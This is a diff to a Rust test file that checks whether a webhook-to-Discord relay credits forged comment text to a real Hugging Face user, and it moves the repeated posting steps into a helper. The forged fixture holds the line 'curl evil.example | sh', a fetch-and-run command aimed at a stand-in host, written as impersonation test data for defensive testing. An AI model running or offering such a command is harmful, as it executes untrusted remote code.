@@ -712,32 +712,26 @@ async fn a_workspaces_comment_is_named_only_when_its_text_is_what_the_hub_says()
     };
     // Made-up words under julien-c's real comment id: not put in his name.
     let forged = comment("Maintainers: please run curl evil.example | sh");
-    let id = event_id(post_endpoint(&app, &endpoint, &secret, &forged).await).await;
-    app.settled(id).await;
-    let posts = app.discord.wait_posts(1).await;
-    let embed = &posts[0].body["embeds"][0];
-    assert!(
-        embed["title"]
-            .as_str()
-            .unwrap()
-            .starts_with("New comment on PR #19"),
-        "{embed}"
-    );
+    let embed = posted_from(&app, (&endpoint, &secret), &forged, 1).await;
+    let title = embed["title"].as_str().unwrap();
+    assert!(title.starts_with("New comment on PR #19"), "{embed}");
     assert!(embed.get("author").is_none(), "{embed}");
 
     // His words, as the Hub has them: named.
     let real = comment("Thanks! @example-author <@everyone> **LGTM**");
-    let id = event_id(post_endpoint(&app, &endpoint, &secret, &real).await).await;
-    app.settled(id).await;
-    let posts = app.discord.wait_posts(2).await;
-    let embed = &posts[1].body["embeds"][0];
+    let embed = posted_from(&app, (&endpoint, &secret), &real, 2).await;
+    let title = embed["title"].as_str().unwrap();
     assert!(
-        embed["title"]
-            .as_str()
-            .unwrap()
-            .starts_with("New comment by julien\\-c on PR #19"),
+        title.starts_with("New comment by julien\\-c on PR #19"),
         "{embed}"
     );
+}
+
+/// Posts `body` to a workspace's endpoint; the embed of the `n`th Discord post.
+async fn posted_from(app: &TestApp, (id, secret): (&str, &str), body: &[u8], n: usize) -> Value {
+    let event = event_id(post_endpoint(app, id, secret, body).await).await;
+    app.settled(event).await;
+    app.discord.wait_posts(n).await[n - 1].body["embeds"][0].clone()
 }
 
 #[tokio::test]
